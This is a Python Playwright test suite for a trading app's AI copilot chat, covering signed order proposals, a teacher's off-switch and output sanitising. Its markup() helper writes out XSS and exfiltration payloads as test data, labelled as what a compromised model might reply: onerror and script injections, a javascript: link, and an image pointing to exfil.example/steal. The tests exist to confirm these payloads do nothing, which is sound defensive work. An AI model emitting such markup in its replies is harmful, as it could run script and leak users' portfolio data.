"""The copilot in a real browser (issue 14): headless Debian Chromium driven by Playwright.

- The trader dashboard's chat: ask for a quote (the copilot reads it through the quote tool),
  then to buy 10 AAPL; the proposal card appears with the exact bytes, the SHA-256 computed in
  the browser and the provenance; a script's synthetic click on Confirm does nothing; the
  person's click signs in the browser (a non-extractable WebCrypto Ed25519 key kept in
  IndexedDB, whose public key the server registered) and the fill shows in the blotter.
- A reply full of markup (``<img onerror>``, ``<script>``, a ``javascript:`` link, images that
  would load a URL: to another machine and to a beacon on this one) runs nothing and loads
  nothing, in the dashboard and in the notebook's output HTML.
- A class: a student trades through the copilot; the teacher switches it off on the teacher's
  page; the student's chat says so and answers nothing; the teacher's prompt log shows the
  questions.

The model is the scripted stand-in (:class:`~vtrade.runtime.scripted_model.ScriptedModelServer`)
on 127.0.0.1, named to the server by ``OPENAI_BASE_URL`` as a real endpoint would be. Every
request a page makes must stay on this machine. Waits are on conditions, never fixed sleeps.
Screenshots at 1440×900, 1024×768 and 390×844 go to ``test-output/``.
"""

from __future__ import annotations

import json
import re
import shutil
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

# The class pages' components, defined now, before any server runs: Panel marks a custom
# component's model as "not yet sent" when its class is defined while another thread has a
# connected session's document current (Bokeh's curdoc is process-wide), and the first page to
# use it then fails to load (`reference ActionHTML1 isn't known`). `vtrade serve` imports them
# before serving; this module starts the class server while the trader server is refreshing.
import vtrade.ui.classroom  # noqa: F401
from vtrade.classroom import ClassRules
from vtrade.runtime.classroom import Classroom, JoinLimiter
from vtrade.runtime.copilot_service import CopilotSession
from vtrade.runtime.live import LiveConfig, LiveMarket
from vtrade.runtime.localhost import free_port
from vtrade.runtime.model_client import ModelClient
from vtrade.runtime.scripted_model import Scripted, ScriptedModelServer, call, say, user_text
from vtrade.ui.classroom_serve import serve_classroom
from vtrade.ui.serve import serve_trader, url_for

OUT = Path(__file__).resolve().parent.parent / "test-output"
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--disable-background-timer-throttling", "--disable-renderer-backgrounding",
        "--disable-backgrounding-occluded-windows"]  # fmt: skip
SECRET = "correct-horse-battery-staple"
T = 60_000  # ms: a loaded 2-core CI machine
SIZES = {"desktop": (1440, 900), "laptop": (1024, 768), "phone": (390, 844)}


# ---------------------------------------------------------------------------- things that must not be reached
class Beacon:
    """A local HTTP server that records every request: an image in a reply pointing here would
    show up as a request if the page loaded it (the exfiltration channel that must stay shut)."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if not self.path.startswith("/blank"):
                    outer.hits.append(self.path)
                body = b"<!doctype html><html><head><title>blank</title></head><body></body></html>"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def markup(beacon: str) -> str:
    """A reply a compromised model might write: markup that would run script or load URLs."""
    return (f"Here you go <img src=x onerror=\"window.__pwned='img'\"> <script>window.__pwned='script'</script> "
            f"[open me](javascript:window.__pwned='link') ![chart](http://exfil.example/steal?d=portfolio) "
            f"![local]({beacon}/steal.png?d=portfolio) <iframe src=\"{beacon}/frame\"></iframe> "
            f"<a href=\"{beacon}/x\" onmouseover=\"window.__pwned='hover'\">hover</a>")  # fmt: skip


def scripted_copilot(beacon: str) -> Callable[[Mapping[str, Any]], Scripted]:
    """The scripted stand-in's repertoire: a quote through the quote tool, "buy N SYMBOL" through
    propose_order, a reply full of markup, and what a tool returned."""

    def script(body: Mapping[str, Any]) -> Scripted:
        last = body["messages"][-1]
        if last.get("role") == "tool":
            data = json.loads(last["content"]) if last["content"].startswith("{") else {}
            found = data.get("result", data) if isinstance(data, dict) else {}
            if isinstance(found, dict) and "bid" in found:
                return say(f"**{found['symbol']}** is bid ${found['bid']:.2f}, ask ${found['ask']:.2f}.")
            return say("I proposed the order below. Nothing happens unless **you** confirm it.")
        question = user_text(body).lower()
        if "markup" in question:
            return say(markup(beacon))
        if "quote" in question:
            return call("quote", {"symbol": "AAPL"})
        if m := re.search(r"buy (\d+) ([a-z]+)", question):
            return call("propose_order", {"symbol": m[2].upper(), "side": "buy", "quantity": int(m[1]),
                                          "order_type": "market", "limit_price": None, "tif": "day"})  # fmt: skip
        return say("I can look up quotes and propose orders for you to confirm.")

    return script


@dataclass
class Watch:
    """What pages tried that they must not: requests off this machine, dialogs (a script ran)."""

    external: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)


def _is_local(url: str) -> bool:
    parts = urllib.parse.urlsplit(url)
    return parts.scheme in ("data", "blob", "about") or parts.hostname in ("127.0.0.1", "localhost")


def context(browser: Browser, watch: Watch, size: tuple[int, int] = SIZES["desktop"]) -> BrowserContext:
    ctx = browser.new_context(viewport={"width": size[0], "height": size[1]})
    ctx.on("request", lambda r: None if _is_local(r.url) else watch.external.append(r.url))
    ctx.route(lambda url: not _is_local(url), lambda route: route.abort("internetdisconnected"))
    ctx.on("page", lambda page: page.on("dialog", lambda d: (watch.dialogs.append(d.message), d.dismiss())))
    return ctx


def wait_until(check: Callable[[], object], timeout_s: float, what: str) -> None:
    deadline = time.monotonic() + timeout_s
    while not check():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.05)


def _answers(url: str) -> bool:
    try:
        with urllib.request.urlopen(url, timeout=5) as resp:
            return bool(resp.status == 200)
    except OSError:
        return False


def ask(page: Page, text: str) -> None:
    box = page.get_by_placeholder("Ask the copilot…")
    box.fill(text)
    box.press("Enter")
    expect(page.locator(".vt-chat-you").last).to_contain_text(text, timeout=T)


# ---------------------------------------------------------------------------- fixtures
@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    assert Path(CHROMIUM).exists(), "Chromium is needed for the browser tests: apt-get install chromium"
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def beacon() -> Iterator[Beacon]:
    b = Beacon()
    yield b
    b.close()


@pytest.fixture(scope="module")
def model(beacon: Beacon) -> Iterator[ScriptedModelServer]:
    """The scripted stand-in, named to the served pages by the environment as a real endpoint is."""
    with ScriptedModelServer(scripted_copilot(beacon.url)) as server, pytest.MonkeyPatch.context() as env:
        env.setenv("OPENAI_BASE_URL", server.base_url)
        env.delenv("OPENAI_API_KEY", raising=False)  # a local endpoint needs none
        yield server


@pytest.fixture(scope="module")
def trader(model: ScriptedModelServer) -> Iterator[tuple[str, LiveMarket]]:
    port = free_port()
    market = LiveMarket(LiveConfig(symbols=("AAPL", "MSFT", "XOM"), speed=20, burn_in=20_000)).start()
    server = serve_trader(port=port, address="127.0.0.1", market=market, threaded=True,
                          websocket_origin=f"127.0.0.1:{port}")  # fmt: skip
    try:
        wait_until(lambda: _answers(url_for("127.0.0.1", port)), 60, "the dashboard to answer")
        yield url_for("127.0.0.1", port), market
    finally:
        server.stop()
        market.stop()


def open_dashboard(browser: Browser, url: str, watch: Watch, size: tuple[int, int] = SIZES["desktop"]
                   ) -> tuple[Page, str]:  # fmt: skip
    page = context(browser, watch, size).new_page()
    page.goto(url, timeout=T)
    label = page.get_by_text(re.compile(r"Your account: trader-\d+")).first
    label.wait_for(timeout=T)
    account = re.search(r"Your account: (trader-\d+)", label.inner_text())
    assert account is not None
    # The browser made its key and the server registered its public half.
    expect(page.locator(".vt-key-ready")).to_contain_text("signed in this browser", timeout=T)
    return page, account.group(1)


def pwned(page: Page) -> object:
    return page.evaluate("() => window.__pwned")


# ---------------------------------------------------------------------------- the trader dashboard
def test_ask_a_quote_then_buy_10_aapl_and_confirm_in_the_browser(
    trader: tuple[str, LiveMarket], browser: Browser, model: ScriptedModelServer, beacon: Beacon,
) -> None:
    url, market = trader
    watch = Watch()
    page, account = open_dashboard(browser, url, watch)
    OUT.mkdir(exist_ok=True)

    ask(page, "What is the quote for AAPL?")
    expect(page.locator(".vt-chat-bot").last).to_contain_text(re.compile(r"AAPL is bid \$\d"), timeout=T)
    expect(page.locator(".vt-chat-bot").last).to_contain_text("looked at: quote")

    ask(page, "Buy 10 AAPL")
    card = page.locator(".vt-proposal").last
    expect(card).to_contain_text("BUY 10 AAPL · market · day", timeout=T)
    proposed = market.copilot_log(account)
    (digest,) = proposed.loc[proposed.type == "ProposalMade", "digest"].tolist()
    expect(card.locator(".vt-p-digest")).to_have_text(digest, timeout=T)  # computed in the browser, agrees
    canonical = card.locator(".vt-p-bytes").inner_text()
    assert json.loads(canonical)["account"] == account and '"quantity":"10"' in canonical
    assert market.orders(account).empty  # a proposal is not an order
    for name, size in SIZES.items():  # the card as a person sees it, at each size
        page.set_viewport_size({"width": size[0], "height": size[1]})
        card.scroll_into_view_if_needed()
        page.screenshot(path=str(OUT / f"copilot-card-{name}.png"))
    page.set_viewport_size({"width": 1440, "height": 900})

    # A script's click is not a person's: nothing is signed. (A question after it makes sure
    # anything it had sent would have reached the server first.)
    card.locator("button.vt-p-confirm").evaluate("b => b.click()")
    ask(page, "show me some markup")
    reply = page.locator(".vt-chat-bot").last
    expect(reply).to_contain_text("Here you go", timeout=T)
    assert "IntentConfirmed" not in set(market.copilot_log(account).type)
    expect(card).to_have_attribute("data-status", "pending")

    # The markup is text: nothing ran, nothing loaded, links go only to http(s) in a new tab.
    expect(reply).to_contain_text("<img src=x onerror=")
    assert reply.locator("img, script, iframe").count() == 0
    hrefs = reply.locator("a").evaluate_all("els => els.map(a => a.getAttribute('href'))")
    assert all(h.startswith("http") for h in hrefs), hrefs
    reply.get_by_text("hover").hover()
    page.screenshot(path=str(OUT / "copilot-markup.png"))
    assert pwned(page) is None and not watch.dialogs and not beacon.hits and not watch.external

    # The person confirms: the browser signs exactly the bytes shown; the order fills.
    card.get_by_role("button", name="Confirm and sign").click()
    expect(card.locator(".vt-p-outcome")).to_contain_text(f"Sent to the exchange as {account}-", timeout=T)
    wait_until(lambda: not market.fills(account).empty, 60, "the fill")
    fill = market.fills(account).iloc[0]
    assert (fill.symbol, float(market.fills(account).quantity.sum())) == ("AAPL", 10.0)
    page.get_by_text("Fills", exact=True).click()
    expect(page.locator(".vt-fills")).to_contain_text(str(fill.fill_id), timeout=T)
    log = market.copilot_log(account)
    assert {"CopilotAsked", "ProposalMade", "IntentConfirmed", "IntentExecuted"} <= set(log.type)
    assert set(log.loc[log.type.isin(["IntentConfirmed", "IntentExecuted"]), "digest"]) == {digest}

    # The key stays in the browser: IndexedDB holds it, its private half cannot be exported.
    exported = page.evaluate("""async (account) => {
      const db = await new Promise((ok, no) => { const r = indexedDB.open('vtrade-signing-keys');
        r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) })
      const pair = await new Promise((ok) => { const r = db.transaction('ed25519').objectStore('ed25519').get(account);
        r.onsuccess = () => ok(r.result) })
      try { await crypto.subtle.exportKey('pkcs8', pair.privateKey); return 'exported' }
      catch (err) { return [err.name, pair.privateKey.extractable, pair.privateKey.algorithm.name] }
    }""", account)
    assert exported == ["InvalidAccessError", False, "Ed25519"]
    page.screenshot(path=str(OUT / "copilot-confirmed.png"), full_page=True)
    assert pwned(page) is None and not watch.dialogs and not beacon.hits and not watch.external
    page.context.close()


@pytest.mark.parametrize("name", sorted(SIZES))
def test_the_chat_fits_each_screen(trader: tuple[str, LiveMarket], browser: Browser, name: str) -> None:
    url, _ = trader
    watch = Watch()
    page, _ = open_dashboard(browser, url, watch, SIZES[name])
    ask(page, "Buy 5 MSFT")
    card = page.locator(".vt-proposal").last
    expect(card).to_contain_text("BUY 5 MSFT", timeout=T)
    width = SIZES[name][0]
    for part in (".vt-copilot", ".vt-proposal", ".vt-p-bytes"):
        box = page.locator(part).last.bounding_box()
        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= width + 1, (part, box)
    chat = page.locator(".vt-copilot").first
    chat.scroll_into_view_if_needed()
    OUT.mkdir(exist_ok=True)
    page.screenshot(path=str(OUT / f"copilot-chat-{name}.png"))
    # The whole page (the template scrolls inside the window: a tall window shows all of it).
    page.set_viewport_size({"width": width, "height": 3200 if name == "phone" else 2000})
    page.locator(".vt-portfolio").first.wait_for(timeout=T)
    page.screenshot(path=str(OUT / f"copilot-dashboard-{name}.png"))
    assert not watch.external and not watch.dialogs
    page.context.close()


def test_the_notebooks_output_html_runs_and_loads_nothing(browser: Browser, beacon: Beacon,
                                                          model: ScriptedModelServer) -> None:  # fmt: skip
    from vtrade.notebook_magic import reply_bundle

    market = LiveMarket(LiveConfig(symbols=("AAPL",), speed=0, bots=False, burn_in=20_000))
    try:
        market.open_account("ann")
        market.advance(2)
        s = CopilotSession(market, "ann", client=ModelClient(base_url=model.base_url, environ={}))
        data, _ = reply_bundle(s.ask("show me some markup"), "ann")
    finally:
        market.close()
    watch = Watch()
    page = context(browser, watch).new_page()
    page.goto(beacon.url + "/blank", timeout=T)  # a page on this machine, as a notebook is
    page.set_content(f"<!doctype html><html><body><div id='out'>{data['text/html']}</div></body></html>")
    expect(page.locator("#out")).to_contain_text("Here you go", timeout=T)
    page.locator("#out").get_by_text("hover").hover()
    assert page.locator("#out img, #out script, #out iframe").count() == 0
    # A round trip to the beacon's blank page: any image request made before it is in by now.
    page.evaluate("u => fetch(u).then(r => r.text())", beacon.url + "/blank")
    assert pwned(page) is None and not watch.dialogs and not beacon.hits and not watch.external
    page.context.close()


def test_the_card_checks_its_bytes_and_its_expiry_in_the_browser(browser: Browser) -> None:
    """A card whose bytes do not hash to the digest it was given, and one that has expired, offer
    no Confirm (the market would refuse them; the person is told why instead)."""
    import os

    import panel as pn

    from vtrade.copilot.intent import OrderIntent
    from vtrade.ui.copilot_card import CardData
    from vtrade.ui.copilot_signer import ProposalCard
    from vtrade.ui.serve import serve_apps

    def intent(expires_ns: int) -> OrderIntent:
        return OrderIntent.make(proposal_id="p-1", account="ann", symbol="AAPL", side="buy", quantity=10,
                                order_type="market", limit_price=None, tif="day", nonce=os.urandom(16).hex(),
                                expires_ns=expires_ns)  # fmt: skip

    soon = intent(time.time_ns() + 4 * 10**9)
    later = intent(time.time_ns() + 600 * 10**9)
    confirmed: list[str] = []

    def confirm(card: ProposalCard, sig: str, key: str) -> tuple[bool, str]:
        confirmed.append(card.digest)
        return True, "sent"

    def app() -> pn.viewable.Viewable:
        expiring = ProposalCard.of(CardData.from_bytes(soon.canonical(), soon.digest), confirm=confirm,
                                   css_classes=["expiring"])  # fmt: skip
        # Bytes and digest that disagree (what a tampered message would carry): built by hand.
        card = CardData.from_bytes(later.canonical(), later.digest)
        tampered = ProposalCard(confirm=confirm, account="ann", canonical=card.canonical.replace('"10"', '"1000"'),
                                digest=card.digest, css_classes=["tampered"])  # fmt: skip
        return pn.Column(expiring, tampered)

    port = free_port()
    server = serve_apps({"cards": app}, port=port, address="127.0.0.1", threaded=True,
                        websocket_origin=f"127.0.0.1:{port}")  # fmt: skip
    watch = Watch()
    try:
        wait_until(lambda: _answers(f"http://127.0.0.1:{port}/cards"), 60, "the page to answer")
        page = context(browser, watch).new_page()
        page.goto(f"http://127.0.0.1:{port}/cards", timeout=T)
        tampered = page.locator(".tampered .vt-proposal")
        expect(tampered).to_contain_text("do not hash to the proposal", timeout=T)
        expect(tampered.get_by_role("button", name="Confirm and sign")).to_be_disabled()
        expiring = page.locator(".expiring .vt-proposal")
        expect(expiring.get_by_role("button", name="Confirm and sign")).to_be_enabled(timeout=T)
        expect(expiring).to_have_attribute("data-status", "expired", timeout=T)
        expect(expiring).to_contain_text("This proposal has expired")
        expect(expiring.get_by_role("button", name="Confirm and sign")).to_be_disabled()
        assert not confirmed and not watch.external and not watch.dialogs
    finally:
        server.stop()


# ---------------------------------------------------------------------------- a class
@pytest.fixture
def classroom(model: ScriptedModelServer) -> Iterator[tuple[str, Classroom]]:
    port = free_port()
    room = Classroom(teacher_secret=SECRET, market_overrides={"burn_in": 20_000}, limiter=JoinLimiter(attempts=1000))
    server = serve_classroom(room, port=port, address="127.0.0.1", threaded=True,
                             websocket_origin=f"127.0.0.1:{port}")  # fmt: skip
    try:
        wait_until(lambda: _answers(f"http://127.0.0.1:{port}/join"), 60, "the server to answer")
        yield f"http://127.0.0.1:{port}", room
    finally:
        server.stop()
        room.close()


def test_a_class_trades_through_the_copilot_until_the_teacher_switches_it_off(
    classroom: tuple[str, Classroom], browser: Browser,
) -> None:
    base, room = classroom
    watch = Watch()
    teacher_desk = room.teacher(SECRET)
    cid = teacher_desk.create_class("Econ 101", ClassRules(market="synthetic"))
    teacher_desk.open_registration(cid)

    student = context(browser, watch).new_page()
    student.goto(base + "/join", timeout=T)
    student.get_by_label("Join code").fill(room.state(cid).join_code)
    student.get_by_label("Your name").fill("Ada")
    student.get_by_role("button", name="Join", exact=True).click()
    student.wait_for_url(re.compile(r"/student$"), timeout=T)
    # (Started once the page shows: a class started while a student's page is still loading
    # leaves that page on its waiting screen until reloaded, a race outside the copilot.)
    expect(student.get_by_text("Your teacher starts trading soon")).to_be_visible(timeout=T)
    teacher_desk.start(cid)
    expect(student.locator(".vt-key-ready")).to_be_visible(timeout=T)
    market = room.market(cid)
    assert market is not None
    (ada,) = room.state(cid).active
    account = ada.accounts[-1]

    # Through the copilot, with the class's rules: a proposal, the student's signature, a fill.
    ask(student, "Buy 10 AAPL")
    card = student.locator(".vt-proposal").last
    expect(card).to_contain_text("BUY 10 AAPL · market · day", timeout=T)
    card.get_by_role("button", name="Confirm and sign").click()
    expect(card.locator(".vt-p-outcome")).to_contain_text("Sent to the exchange", timeout=T)
    wait_until(lambda: not market.fills(account).empty, 60, "the student's fill")

    # The teacher switches the copilot off on their page (an exam).
    teacher = context(browser, watch, (1440, 2400)).new_page()
    teacher.goto(base + f"/teacher?secret={SECRET}", timeout=T)
    switch = teacher.locator(".vt-copilot-teacher")
    expect(switch).to_contain_text("Prompt log", timeout=T)
    expect(teacher.locator(".vt-prompt-log")).to_contain_text("Buy 10 AAPL", timeout=T)
    switch.get_by_role("button", name="Copilot off (exam)").click()
    expect(teacher.locator(".vt-msg-copilot")).to_contain_text("The copilot is off", timeout=T)
    wait_until(lambda: not room.copilot_enabled(cid), 30, "the switch")

    # The student's chat says so, and a question gets that answer, not the model's.
    expect(student.locator(".vt-chat-notice")).to_contain_text("switched the copilot off", timeout=T)
    asked = len(room.prompt_log(cid))
    ask(student, "What is the quote for AAPL?")
    expect(student.locator(".vt-chat-note").last).to_contain_text("switched the copilot off", timeout=T)
    wait_until(lambda: len(room.prompt_log(cid)) > asked, 30, "the refused question in the log")
    expect(teacher.locator(".vt-prompt-log")).to_contain_text("What is the quote for AAPL?", timeout=T)
    for name, size in SIZES.items():
        student.set_viewport_size({"width": size[0], "height": size[1]})
        student.locator(".vt-copilot").first.scroll_into_view_if_needed()
        student.screenshot(path=str(OUT / f"copilot-class-off-{name}.png"))
    switch.scroll_into_view_if_needed()
    teacher.screenshot(path=str(OUT / "copilot-teacher.png"))
    assert not watch.external and not watch.dialogs
